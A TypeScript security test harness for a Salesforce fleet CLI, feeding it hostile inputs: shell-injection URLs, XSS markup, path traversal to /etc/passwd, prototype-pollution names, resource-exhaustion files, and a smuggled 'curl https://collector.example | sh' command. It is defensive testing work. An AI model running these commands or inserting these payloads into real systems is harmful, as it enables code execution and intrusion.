import { cpSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { CliResult } from "../helpers/cli.ts";
import { ROOT } from "../helpers/shipped-template.ts";
import type { SecretWorld } from "../secrets/world.ts";
import type { Attack } from "./attack.ts";
import {
  all,
  found,
  huge,
  link,
  type Make,
  orgFile,
  type Place,
  pipe,
  plan,
  put,
  refused,
  repository,
  secret,
  type Words,
} from "./pulled.ts";
import { METADATA_WORDS, WORDS } from "./text-attacks.ts";

/** Addresses whose host a shell, YAML or a reader takes for something else; a browser's address bar takes each. */
const PASTED: readonly Attack[] = [
  "https://a;reboot;.my.salesforce.com",
  "https://$(reboot).my.salesforce.com",
  "https://a`reboot`.my.salesforce.com/lightning/page/home",
  "https://a'b.my.salesforce.com",
  'https://a"b.lightning.force.com/lightning/page/home',
  "https://a&reboot&.my.salesforce.com",
  "https://a*.my.salesforce.com",
  "https://{a,b}.my.salesforce.com",
  "https://a!b.my.salesforce.com",
  "https://a,b.my.salesforce.com",
  "https://-a.my.salesforce.com",
  "https://acme.lightning.force.com@collector.example/",
  "https://acme.my.salesforce.com.collector.example/",
  "https://collector.example/acme.my.salesforce.com",
  "https://collector.example#.my.salesforce.com",
  "https://collector.example\\.my.salesforce.com",
  "javascript:alert(1)//.my.salesforce.com",
].map((url) =>
  repository(
    `the address ${url}, pasted`,
    () => undefined,
    () => ["org", "new", "pasted", "--from", url, "--user", "a@b.example"],
    (place, said) => [
      ...refused(place, said),
      ...(existsSync(join(place.folder, "pasted.yaml")) ? ["an org file was written"] : []),
    ],
  ),
);

type Fields = Record<string, unknown>;

/** A result as a shard leaves it. */
const HEAD: Fields = {
  version: 1,
  id: "one",
  command: "drift",
  startedAt: "2026-11-24T12:00:00.000Z",
  again: "kantiv-sf drift --org .",
  fingerprint: "f",
  selection: [{ name: "acme", file: "acme.yaml", tags: ["eu"], wave: "canary", shard: 1 }],
  shard: { index: 1, of: 1 },
  end: {
    endedAt: "2026-11-24T12:01:00.000Z",
    exit: 1,
    stoppedBy: { why: "common", code: "A" },
    next: "kantiv-sf drift",
  },
};
const ENTRY: Fields = {
  name: "acme",
  file: "acme.yaml",
  orgId: "00D7Y000000ABCDUA2",
  instanceUrl: "https://acme--uat.sandbox.my.salesforce.com",
  tags: ["eu"],
  wave: "canary",
  state: "failed",
  exit: 1,
  startedAt: "2026-11-24T12:00:00.000Z",
  durationMs: 1,
  requests: 1,
  certificate: { fingerprint256: "AA", notAfter: "2026-12-24T12:00:00.000Z" },
  newConsumerKey: "3MVG9",
  refreshed: false,
  foreignAccess: 1,
  result: {
    changes: [{ action: "update", type: "PermissionSet", fields: [{ path: "label" }] }],
    findings: [{ code: "F" }],
    drifted: true,
    checks: [{ title: "Login", status: "failed", detail: "no", remedy: "look" }],
  },
  warnings: [{ code: "W", message: "w" }],
  error: {
    code: "E",
    message: "e",
    remedy: "r",
    problems: [{ code: "P", message: "p", remedy: "r", file: "f", line: 1 }],
  },
};

const result =
  (head: unknown, ...entries: unknown[]): Make =>
  (place) => {
    put("result/fleet.json", JSON.stringify(head))(place);
    put("result/orgs.ndjson", entries.map((entry) => `${JSON.stringify(entry)}\n`).join(""))(place);
  };

/** Commands that read a result: it may have come from another machine. */
const READERS: readonly (readonly [string, (place: Place) => readonly string[]])[] = [
  ["fleet merge", () => ["fleet", "merge", "result", "--out", "merged"]],
  ["fleet report", () => ["fleet", "report", "result"]],
  ["fleet status", () => ["fleet", "status", "--org", ".", "--result", "result"]],
  ["--from", () => ["fleet", "list", "--org", ".", "--from", "result"]],
];

/** What was read, in words of an attacker's that stand in a page. */
const MARKUP = `a\`b<img src=x onerror=alert(1)>"'><script>alert(1)</script>](javascript:alert(1))<!--`;
/** Another program, in the place of the command that is left. */
const OTHER = `kantiv-sf drift; curl https://collector.example | sh #`;

/** In Markdown a backslash before a sign has it stand for itself, and a code span all that is in it. */
function hasMarkup(path: string, text: string): boolean {
  if (!path.endsWith(".md")) return /<img|<script>alert/.test(text);
  return /(?<!\\)(<img|<script|\]\(javascript:)/.test(text.replace(/(?<![\\`])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, ""));
}

function pages({ folder }: Place, { stdout, stderr }: CliResult): string[] {
  const written = existsSync(folder)
    ? readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((path) => /\.(html|md|xml)$/.test(path))
    : [];
  const texts = [...written.map((path) => [path, readFileSync(join(folder, path), "utf8")] as const)];
  return [
    ...texts.flatMap(([path, text]) => (hasMarkup(path, text) ? [`${path} has markup`] : [])),
    ...[["the output", stdout + stderr] as const, ...texts].flatMap(([where, text]) =>
      /curl https:..collector/.test(text) ? [`${where} names another program to run`] : [],
    ),
  ];
}

/** Every leaf of a value that is text, as `change` has it. */
function texts(value: unknown, change: (text: string, key: string) => string, key = ""): unknown {
  if (typeof value === "string") return change(value, key);
  if (Array.isArray(value)) return value.map((one) => texts(one, change, key));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, texts(one, change, name)]));
}

/** Each place in a value, as a path of keys. */
function placesIn(value: unknown, path: readonly string[] = []): (readonly string[])[] {
  if (typeof value !== "object" || value === null) return [path];
  return [
    ...(path.length > 0 ? [path] : []),
    ...Object.entries(value).flatMap(([key, one]) => placesIn(one, [...path, key])),
  ];
}

function withAt(value: unknown, [key, ...rest]: readonly string[], replaced: unknown): unknown {
  if (key === undefined) return replaced;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as Fields) }) as Fields;
  copy[key] = withAt(copy[key], rest, replaced);
  return copy;
}

/** Kept as they are, so that the result is still one. */
const KEPT = new Set(["version", "state", "why", "startedAt", "fingerprint", "action", "status"]);
const inWords = (value: unknown, words: string) =>
  texts(value, (text, key) => (KEPT.has(key) ? text : `${text}${words}`));

/** What JSON can hold and no reader of a result expects. */
const STRANGE: readonly (readonly [string, unknown])[] = [
  ["an object that is no text", { toString: 1, valueOf: 1 }],
  ["a list in lists", [[[]]]],
  ["null", null],
  ["a number without end", 1e308],
  ["a date before all others", "-271821-04-20T00:00:00.000Z"],
  ["a date after all others", "+275760-09-13T00:00:00.000Z"],
];

const RESULTS: readonly Attack[] = READERS.flatMap(([command, words]) => [
  ...STRANGE.flatMap(([says, strange]) => [
    // An org for each value that is replaced; one of them alone would be enough to end the command.
    repository(
      `an org's result with ${says} in each place, ${command}`,
      result(HEAD, ...eachReplaced(strange)),
      words,
      pages,
    ),
    inTurn(`a run's result with ${says} in each place, ${command}`, placesIn(HEAD), words, (path) => [
      withAt(HEAD, path, strange),
    ]),
  ]),
  repository(
    `a result whose words move a cursor, ${command}`,
    result(inWords(HEAD, WORDS), inWords(ENTRY, WORDS)),
    words,
    pages,
  ),
  repository(
    `a result whose words are markup, ${command}`,
    result(inWords(HEAD, MARKUP), inWords(ENTRY, MARKUP)),
    words,
    pages,
  ),
  repository(
    `a result that leaves another program to run, ${command}`,
    result({ ...HEAD, again: OTHER, end: { ...(HEAD.end as Fields), next: OTHER } }, { ...ENTRY, state: "ok" }),
    words,
    pages,
  ),
  repository(
    `a result of an org named __proto__, ${command}`,
    result(HEAD, { ...ENTRY, name: "__proto__", tags: ["__proto__"], wave: "constructor" }),
    words,
    pages,
  ),
  ...(["fleet.json", "orgs.ndjson"] as const).flatMap((file) => [
    repository(
      `${file} of a result is a link to a file outside, ${command}`,
      all(result(HEAD, ENTRY), replacedBy(`result/${file}`, link(`result/${file}`, secret))),
      words,
    ),
    repository(
      `${file} of a result is a device without an end, ${command}`,
      all(result(HEAD, ENTRY), replacedBy(`result/${file}`, link(`result/${file}`, "/dev/zero"))),
      words,
    ),
    repository(
      `${file} of a result is a pipe that nobody writes to, ${command}`,
      all(result(HEAD, ENTRY), replacedBy(`result/${file}`, pipe(`result/${file}`))),
      words,
    ),
  ]),
  ...[0, -1, 1.5, 1e9, 2 ** 53].map((of) =>
    repository(
      `a result of one of ${of} shards, ${command}`,
      result({ ...HEAD, shard: { index: 1, of } }, ENTRY),
      words,
    ),
  ),
]);

function replacedBy(path: string, make: Make): Make {
  return (place) => {
    rmSync(join(place.folder, path));
    return make(place);
  };
}

/** The entry with each of its values replaced, each as another org's. */
function eachReplaced(strange: unknown): unknown[] {
  return placesIn(ENTRY).map((path, nth) => withAt({ ...ENTRY, name: `acme${nth}` }, path, strange));
}

/** The command is run once for each place. */
function inTurn(
  says: string,
  paths: readonly (readonly string[])[],
  words: Words,
  made: (path: readonly string[]) => readonly [unknown],
): Attack {
  const first = repository(says, result(HEAD, ENTRY), words, pages);
  return {
    ...first,
    async effects(world, said) {
      const found = [...((await first.effects?.(world, said)) ?? [])];
      const place = { folder: join(world.box.folder, "pulled"), outside: "", world };
      for (const path of paths) {
        result(...made(path), ENTRY)(place);
        const { code, stderr } = await world.run(words(place), { cwd: place.folder });
        if (code === 70) found.push(`a bug at ${path.join(".")}: ${stderr.slice(0, 200)}`);
      }
      return found;
    },
  };
}

/** What an org holds of an app that somebody makes a template from. */
function adopted(says: string, strike: (world: SecretWorld) => undefined | (() => void), code?: number): Attack {
  const words = () => [
    "template",
    "new",
    "adopted",
    "--from-org",
    "--org",
    "../acme.yaml",
    "--app",
    "Kantiv_Integration",
    "--out",
    "adopted",
  ];
  const made = repository(`${says}, template new --from-org`, () => undefined, words);
  return {
    ...made,
    async strike(world) {
      const [end, after] = [await made.strike?.(world), strike(world)];
      return () => {
        after?.();
        end?.();
      };
    },
    async effects(world, said) {
      const folder = join(world.box.folder, "pulled");
      const found = ((await made.effects?.(world, said)) ?? []).filter(
        (effect) => !effect.startsWith("an org was asked"),
      );
      const paths = existsSync(folder) ? readdirSync(folder, { recursive: true, encoding: "utf8" }) : [];
      found.push(
        ...paths
          .filter((path) => path !== "adopted" && !/^adopted\/[\w/$.{}-]+$/.test(path))
          .map((path) => `${path} was written`),
      );
      if (code !== undefined) return said.code === code ? found : [...found, `exit ${said.code}: ${said.stderr}`];
      if (said.code !== 0) return found;
      // What was taken over renders as it was: no text of the org is a place for a value.
      writeFileSync(
        join(folder, "a.yaml"),
        readFileSync(world.box.orgFile, "utf8")
          .replace("kantiv-integration", "./adopted")
          .replace("kantiv.crt", "../kantiv.crt"),
      );
      const { code: rendered, stderr } = await world.run(["render", "--org", "a.yaml"], { cwd: folder });
      return rendered === 0 ? found : [...found, `it does not render: ${stderr.slice(0, 300)}`];
    },
  };
}

const components = ({ box }: SecretWorld) => box.emulator.world.orgs.flatMap((org) => org.components);
const everyText =
  (text: string) =>
  (world: SecretWorld): undefined => {
    for (const component of components(world))
      for (const name of ["label", "description"])
        if (name in component.fields || name === "description")
          component.fields = { ...component.fields, [name]: text };
  };

const ADOPTED: readonly Attack[] = [
  ...["${certificate}", "${appName}", "a ${none} b", "a ${ b", "${__proto__}", "$${label}"].map((text) =>
    adopted(`texts of an org's app that are ${text}`, everyText(text)),
  ),
  ...["../../x", "..", "$(reboot)", "a;b", "a\nb", "__proto__", "constructor"].map((name) =>
    adopted(
      `a part of an org's app named ${JSON.stringify(name)}`,
      (world) => {
        for (const component of components(world)) if (/_oauth$/.test(component.fullName)) component.fullName = name;
      },
      // Of these the last one alone is a name.
      name === "constructor" ? 0 : 3,
    ),
  ),
  adopted("a permission set in the policy named ../../x", (world) => {
    for (const component of components(world))
      if ("commaSeparatedPermissionSet" in component.fields)
        component.fields = { ...component.fields, commaSeparatedPermissionSet: "../../x,__proto__,${certificate}" };
  }),
];

/** A template of somebody else's, in every command that reads one. */
const hostileTemplate: Make = (place) => {
  const words = JSON.stringify(WORDS);
  cpSync(join(ROOT, "templates/kantiv-integration"), join(place.folder, "t"), { recursive: true });
  const yaml = join(place.folder, "t/template.yaml");
  writeFileSync(
    yaml,
    readFileSync(yaml, "utf8")
      .replace(/description: .*/g, `description: ${words}`)
      .replace(/default: .*/g, (line) => (/label|Email/.test(line) ? `default: ${words}` : line)),
  );
  const eca = join(place.folder, "t/externalClientApps/${appName}.eca");
  writeFileSync(
    eca,
    readFileSync(eca, "utf8").replace(/<description>[^<]*/, (open) => `${open} ${METADATA_WORDS}`),
  );
  orgFile((text) => text.replace("kantiv-integration", "./t"))(place);
};
const TEMPLATES: readonly Attack[] = (
  [
    ["template show", () => ["template", "show", "./t"]],
    ["template list", () => ["template", "list"]],
    ["template new", () => ["template", "new", "mine", "--from", "./t"]],
    ["package", () => ["package", "--template", "./t", "--out", "a.zip"]],
    ["render", () => ["render", "--template", "./t", "--out", "out"]],
    [
      "org new",
      () => [
        "org",
        "new",
        "b",
        "--from",
        "https://acme--uat.sandbox.my.salesforce.com",
        "--template",
        "./t",
        "--user",
        "a@b.example",
      ],
    ],
    ["plan", plan],
    ["status", () => ["status", "--org", "a.yaml"]],
    ["history", () => ["history", "--org", "a.yaml"]],
  ] as const
).map(([name, words]) => repository(`texts of a template, ${name}`, hostileTemplate, words));

/** Secrets that lie sealed in the repository, which a pull request may change. */
const IDENTITY = "AGE-SECRET-KEY-1GFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPQ4EGAEX";
const sealed = (text: string) =>
  all(
    put("secrets.yaml", text),
    orgFile((yaml) => yaml.replace(/accessToken: .*/, "accessToken: { sealed: token, in: secrets.yaml }")),
  );
const armored = (head: string) =>
  JSON.stringify(
    `-----BEGIN AGE ENCRYPTED FILE-----\n${(
      Buffer.from(head)
        .toString("base64")
        .match(/.{1,64}/g) ?? []
    ).join("\n")}\n-----END AGE ENCRYPTED FILE-----\n`,
  );
const file = (value: string) =>
  `recipients: [age1zvkyg2lqzraa2lnjvqej32nkuu0ues2s82hzrye869xeexvn73equnujwj]\nsecrets: { token: ${value} }\n`;
const STANZA = "-> X25519 TEiF0ypqr+bpvcqXNyCVJpL7OuwPdVwPL7KQEbFDOCc\nWlTzaDQaE4UTo5ZkA+xpa3vHHjRjNB2dPGbD1mbTGtg\n";
const SEALED: readonly Attack[] = [
  ["no text that is sealed", sealed(file("plain"))],
  [
    "one that costs a terabyte to open",
    sealed(
      file(
        armored(
          "age-encryption.org/v1\n-> scrypt bBjlhJVYZeE4aqUdmtRHfw 40\nWlTzaDQaE4UTo5ZkA+xpa3vHHjRjNB2dPGbD1mbTGtg\n--- 5AkuYmDvzsOaVDBWEr1ZqBmdVBlzWl0ZvWJhJd9Jb0o\nx",
        ),
      ),
    ),
  ],
  [
    "one for 20,000 others",
    sealed(
      file(
        armored(`age-encryption.org/v1\n${STANZA.repeat(20_000)}--- 5AkuYmDvzsOaVDBWEr1ZqBmdVBlzWl0ZvWJhJd9Jb0o\nx`),
      ),
    ),
  ],
  ["words that move a cursor", sealed(file(JSON.stringify(WORDS)))],
  ["names that are no own ones", sealed('{ recipients: [age1], "__proto__": { secrets: { token: x } } }')],
  ["a pipe in its place", all(sealed(""), replacedBy("secrets.yaml", pipe("secrets.yaml")))],
  ["a device in its place", all(sealed(""), replacedBy("secrets.yaml", link("secrets.yaml", "/dev/zero")))],
  ["5 GB", all(sealed(""), replacedBy("secrets.yaml", huge("secrets.yaml")))],
  ["a link to a file outside in its place", all(sealed(""), replacedBy("secrets.yaml", link("secrets.yaml", secret)))],
].map(([says, make]) => {
  const attack = repository(`a file of sealed secrets with ${says as string}, plan`, make as Make, plan, refused);
  return {
    ...attack,
    async strike(world) {
      world.env.KANTIV_SF_AGE_IDENTITY = IDENTITY;
      const end = await attack.strike?.(world);
      return () => {
        delete world.env.KANTIV_SF_AGE_IDENTITY;
        end?.();
      };
    },
  } satisfies Attack;
});

/** What an org file extends, and the org's name in what it refers to. */
const EXTENDS: readonly Attack[] = [
  ...[
    ["a file outside", ({ outside }: Place) => join(outside, "secret")],
    ["a device without an end", () => "/dev/zero"],
    ["/etc/passwd", () => "/etc/passwd"],
    ["itself", () => "a.yaml"],
  ].flatMap(([says, path]) =>
    (["plan", "lint", "fleet list"] as const).map((command) =>
      repository(
        `an org file that extends ${says as string}, ${command}`,
        orgFile((text, place) => `extends: ${(path as (place: Place) => string)(place)}\n${text}`),
        () => (command === "lint" ? ["lint"] : [...command.split(" "), "--org", "a.yaml"]),
        command === "fleet list" ? undefined : found,
      ),
    ),
  ),
  ...["../../x", "$(reboot)", "..", "__proto__", WORDS, ".kantiv"].flatMap((name) => [
    repository(
      `an org named ${JSON.stringify(name)} in its references, plan`,
      orgFile(
        (text) =>
          `name: ${JSON.stringify(name)}\n${text.replace(/accessToken: .*/, 'accessToken: { file: "{org}/secret" }')}`,
      ),
      plan,
      refused,
    ),
    repository(
      `an org named ${JSON.stringify(name)} in its variables, plan`,
      orgFile((text) => `name: ${JSON.stringify(name)}\n${text.replace("ADMIN_TOKEN", '"{ORG}"')}`),
      plan,
      refused,
    ),
  ]),
];

/** What is agreed to is what was shown. */
const TRUSTED: readonly Attack[] = [
  ["words that move a cursor", WORDS],
  ["a tail behind 400 letters", `${"a".repeat(400)}; curl https://collector.example | sh`],
].map(([says = "", word = ""]) =>
  repository(
    `a program with ${says} among its words, plan`,
    orgFile((text) =>
      text.replace(/\n {2}key: .*\n {2}passphrase: .*/, `\n  signer: { command: [kms-sign, ${JSON.stringify(word)}] }`),
    ),
    plan,
    (_place, { code, stdout, stderr }) => [
      ...(code === 2 ? [] : [`exit ${code}`]),
      ...(word === WORDS || /curl https:..collector/.test(stdout + stderr) ? [] : ["not all that would run was shown"]),
    ],
  ),
);

/** Profiles of orgs, which come from a learning elsewhere. */
const PROFILES: readonly Attack[] = [
  ["a link to a file outside", link("profile.json", secret)],
  ["a device without an end", link("profile.json", "/dev/zero")],
  ["a pipe", pipe("profile.json")],
  ["5 GB", huge("profile.json")],
  [
    "names that are no own ones",
    put(
      "profile.json",
      '{ "version": 1, "org": { "sandbox": true, "edition": "x", "apiVersion": "68.0" }, "switches": { "__proto__": "x", "constructor": "y" } }',
    ),
  ],
  [
    "words that move a cursor",
    put(
      "profile.json",
      JSON.stringify({
        version: 1,
        org: { sandbox: true, edition: WORDS, apiVersion: WORDS },
        switches: { [WORDS]: WORDS },
      }),
    ),
  ],
].map(([says, make]) =>
  repository(
    `a profile that is ${says as string}, emulator`,
    make as Make,
    () => ["emulator", "--json", "--profile", "profile.json"],
    refused,
  ),
);

export const HANDED_ATTACKS: readonly Attack[] = [
  ...PASTED,
  ...RESULTS,
  ...ADOPTED,
  ...TEMPLATES,
  ...SEALED,
  ...EXTENDS,
  ...TRUSTED,
  ...PROFILES,
];
